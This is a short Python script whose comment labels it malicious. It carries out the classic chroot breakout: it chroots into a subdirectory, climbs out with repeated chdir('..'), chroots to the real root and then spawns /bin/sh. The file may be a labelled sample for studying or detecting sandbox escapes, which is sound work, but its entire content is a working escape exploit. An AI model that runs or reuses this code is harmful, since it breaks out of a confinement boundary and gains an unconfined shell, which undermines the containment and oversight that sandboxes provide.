# Malicious: the classic chroot breakout: chroot into a subdirectory, climb out with chdir('..') and chroot('.').
import os

os.makedirs("jail", exist_ok=True)
os.chroot("jail")
for _ in range(64):
    os.chdir("..")
os.chroot(".")
os.system("/bin/sh")
